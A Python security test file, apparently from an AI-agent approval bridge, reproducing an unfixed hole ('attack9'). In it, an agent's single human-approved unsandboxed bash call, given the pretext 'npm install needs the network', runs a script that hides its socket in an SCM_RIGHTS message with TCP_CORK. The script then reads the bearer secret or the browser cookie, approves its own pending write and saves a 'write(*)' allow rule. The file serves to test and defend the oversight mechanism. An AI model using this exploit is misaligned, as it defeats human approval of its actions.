"""Outside review (attack9): the control API's peer check lets through a connection that no
process holds.

The check finds the client socket's inode (sock_diag), then the processes holding it
(``/proc/*/fd``), then walks each one's parents up to the bridge. A socket can be held by *no*
process: a descriptor sent over a unix socket (``SCM_RIGHTS``) and not yet received belongs to
the message in flight, not to any descriptor table, and the TCP connection stays established.
Then ``pids_holding`` finds nobody, and ``_find_peer_once`` answers ``Peer(pid=None,
hidden_tool=False)`` - not refused - as soon as some process is unreadable (a root daemon on
any desktop), or after its ~5 s of retries when every process is readable (root).

The request must reach the bridge while the descriptor is in flight: ``TCP_CORK`` holds the
request in the kernel for 200 ms, long after the sender let go of the socket, so the race is
the kernel's timer, not luck. Once the response is queued (``rx_queue`` in ``/proc/net/tcp``)
the sender takes the descriptor back and reads it; each request is sent the same way (Tornado
makes a connection object per request, so each is checked again, and each passes).

Not fixed: the design allows a peer no readable process holds (the human's CLI in a parent user
namespace, as ``tests/security/test_attack6_escaped_approver.py`` runs the bridge; a browser's
non-dumpable network process), and refusing bearer requests found in no process broke exactly
that. What would tell the two apart: see the report (refuse when no unreadable process of the
bridge's own user exists; a socket's uid from sock_diag; a second factor the page and CLI
hold that a file read cannot give). Fixed on the way: a process on a found holder's chain
that is gone when the walk reads it counts as a tool's (``tool_on_chain(gone_is_tool=True)``),
so a holder that exits after the scan found it no longer ends the walk as if at init.

Reproduced from a bash call the human let run outside the box (the box cuts the network and
hides ``control.json``), with bubblewrap: the call's PID namespace does not matter, the socket
is in no process at all.
"""

from __future__ import annotations

import http.client
import json
import os
import sys

import pytest

from omp_a2a_bridge.server.vocab import Decision

from ..support.control_client import WsApprover
from ..support.helpers import in_thread, wait_for

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc: Linux")

# The escape: every request of one keep-alive connection, the first sent while the socket is
# in flight (corked), the rest once the verdict is kept.
IN_FLIGHT = r"""
import json, socket, sys, time
info = json.load(open(bytes.fromhex(sys.argv[1]).decode()))
host, port = info["url"].split("//", 1)[1].rstrip("/").rsplit(":", 1)
cookie = open(sys.argv[2]).read().strip() if sys.argv[2:] else ""  # a page session's
csrf = ""

def request(method, path, body=None):
    data = b"" if body is None else json.dumps(body).encode()
    auth = (f"Cookie: a2a_page={cookie}\r\nX-CSRF-Token: {csrf}\r\n" if cookie
            else f"Authorization: Bearer {info['secret']}\r\n")
    head = (f"{method} {path} HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}"
            f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n")
    return head.encode() + data

def response(sock):
    raw = b""
    while b"\r\n\r\n" not in raw:
        raw += sock.recv(65536)
    head, _, body = raw.partition(b"\r\n\r\n")
    size = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            size = int(value)
    while len(body) < size:
        body += sock.recv(65536)
    return int(head.split()[1]), body[:size].decode()

def queued(local_port):
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            f = line.split()
            if int(f[1].rsplit(":", 1)[1], 16) == local_port and f[3] == "01":
                return int(f[4].split(":")[1], 16) > 0
    return False

def in_flight(sock, data):
    # Send ``data`` corked, let go of the socket until the answer is queued, take it back.
    local = sock.getsockname()[1]
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)  # sent in 200 ms, by the kernel
    sock.sendall(data)
    keep, hold = socket.socketpair()
    socket.send_fds(keep, [b"x"], [sock.fileno()])  # the connection is now in no process
    sock.close()
    deadline = time.monotonic() + 120
    while not queued(local) and time.monotonic() < deadline:
        time.sleep(0.05)
    _, fds, _, _ = socket.recv_fds(hold, 1, 1)
    keep.close()
    hold.close()
    sock = socket.socket(fileno=fds[0])
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
    return sock, response(sock)

sock = socket.create_connection((host, int(port)))
out = {}
if cookie:  # the page says its CSRF token to its cookie
    sock, out["page"] = in_flight(sock, request("GET", "/"))
    if out["page"][0] == 200:
        csrf = out["page"][1].split('name="csrf-token" content="', 1)[1].split('"', 1)[0]
sock, listed = in_flight(sock, request("GET", "/api/pending"))
out["pending"] = listed
if listed[0] == 200:
    ids = [p["id"] for p in json.loads(listed[1])["pending"] if p["tool"] == "write"]
    for name, method, path, body in (
        ("approve", "POST", "/api/pending/" + ids[0], {"decision": "approve"}),
        ("rule", "POST", "/api/rules", {"list": "allow", "rule": "write(*)"}),
    ):
        sock, out[name] = in_flight(sock, request(method, path, body))
print("RESULT " + json.dumps(out))
"""


def _attack(ctl, env, cookie: str | None) -> None:
    """The escape from one approved outside call: every control request of one connection
    sent in flight (bearer, or the page's ``cookie``); asserts each was refused."""
    script = os.path.join(env["root"], "in_flight.py")
    with open(script, "w") as f:
        f.write(IN_FLIGHT)
    control_json = os.path.join(env["runtime"], "control.json").encode().hex()
    cookie_file = ""
    if cookie is not None:  # what the human's browser keeps (its cookie or session store)
        cookie_file = os.path.join(env["root"], "browser-cookie.txt")
        with open(cookie_file, "w") as f:
            f.write(cookie)
    approver = WsApprover(ctl.info)  # calls wait for a human
    human = ctl.runner.attach_approver("test human")
    try:
        waiting = ctl.client("waiting")
        target = os.path.join(env["root"], "planted.txt")
        wthread, _ = in_thread(waiting.call, "write", {"path": target, "content": "x"})
        [write] = wait_for(lambda: ctl.runner.snapshot().pending or None, 60)
        agent = ctl.client("agent")
        args = {
            "command": f"{sys.executable} {script} {control_json} {cookie_file}",
            "box": False,
            "reason": "npm install needs the network",
        }
        thread, out = in_thread(agent.call, "bash", args)
        mine = wait_for(lambda: [p for p in ctl.runner.snapshot().pending if p.tool == "bash"])
        assert ctl.runner.decide(mine[0].id, Decision.APPROVE)  # the human's one decision
        thread.join(180)
        assert out, "the approved call did not end"
        text = str(out[0].text)
        line = next((x for x in text.splitlines() if x.startswith("RESULT ")), None)
        assert line is not None, text
        result = json.loads(line[len("RESULT ") :])
        allowed = {name: status for name, (status, _) in result.items() if status != 403}
        # What the test asks: every request of that connection refused, the write still
        # waiting, no rule saved.
        assert allowed == {}, (allowed, text)
        assert [p.id for p in ctl.runner.snapshot().pending] == [write.id]
        assert "write(*)" not in [rule.text for rule in ctl.runner.rules().allow]
        wthread.join(1)
        assert not os.path.exists(target)
    finally:
        ctl.runner.detach_approver(human)
        approver.close()
        for p in ctl.runner.snapshot().pending:
            ctl.runner.decide(p.id, Decision.DENY)


@pytest.mark.xfail(
    strict=True,
    reason="attack9 #1: a control connection held by no process (its descriptor in flight in "
    "an SCM_RIGHTS message, the request corked) is not refused: pids_holding finds nobody and "
    "_find_peer_once answers pid=None, hidden_tool=False",
)
def test_a_connection_held_by_no_process_cannot_approve(ctl, env) -> None:
    """The bearer secret (``control.json``), each request sent with its socket in flight."""
    _attack(ctl, env, None)


def _page_cookie(ctl) -> str:
    """The human logs in to the page (a login code from the CLI, the link in a browser): the
    session cookie that browser then keeps."""
    code = ctl.api.call("POST", "/api/login-code", {}).json["code"]
    port = int(ctl.info.url.rstrip("/").rsplit(":", 1)[1])
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", f"/login?code={code}")
        r = conn.getresponse()
        r.read()
        header = r.getheader("Set-Cookie") or ""
    finally:
        conn.close()
    assert header.startswith("a2a_page="), header
    return header.split("=", 1)[1].split(";", 1)[0]


@pytest.mark.xfail(
    strict=True,
    reason="attack9 #1, with the page's cookie (a box:false call reads it from the browser's "
    "cookie or session store): a request whose socket no process holds is not refused",
)
def test_a_connection_held_by_no_process_cannot_approve_with_the_page_cookie(ctl, env) -> None:
    _attack(ctl, env, _page_cookie(ctl))
